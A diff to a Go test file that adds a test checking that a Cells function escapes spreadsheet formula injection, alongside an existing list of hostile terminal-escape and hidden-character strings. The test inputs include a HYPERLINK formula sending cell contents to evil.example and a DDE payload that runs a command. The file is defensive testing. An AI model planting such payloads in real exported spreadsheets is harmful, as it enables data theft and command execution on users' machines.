@@ -13,6 +13,19 @@ var hostile = []string{
 	"\x1b[2J\x1b]0;title\x07", "\u009b31m", "left\u202eright\u2066", "\x00", "\xff\xfe", "&lt;b&gt; &amp;", "<!-- x", "*b* _i_ ~~s~~ **b**", "| - | :-: |", "$x$ :smile:", "zero\u200bwidth",
 }
 
+func TestNoCellIsAFormula(t *testing.T) {
+	for text, want := range map[string]string{
+		"": "", "wire 96 %": "wire 96 %", "a=b": "a=b", "-5": "-5", "+5.5e3": "+5.5e3", "=1": "'=1",
+		`=HYPERLINK("http://evil.example"&A1,"x")`: `'=HYPERLINK("http://evil.example"&A1,"x")`,
+		"@SUM(1)*cmd|' /C calc'!A0":                "'@SUM(1)*cmd|' /C calc'!A0",
+		"+1+cmd":                                   "'+1+cmd", "-1+cmd": "'-1+cmd", "\t=1": "'\t=1", "\r=1": "'\r=1", "-": "'-",
+	} {
+		if got := Cells([]string{text})[0]; got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
+
 func TestVisibleIsOneLineWithNothingHidden(t *testing.T) {
 	for _, text := range hostile {
 		got := Visible(text, 200)
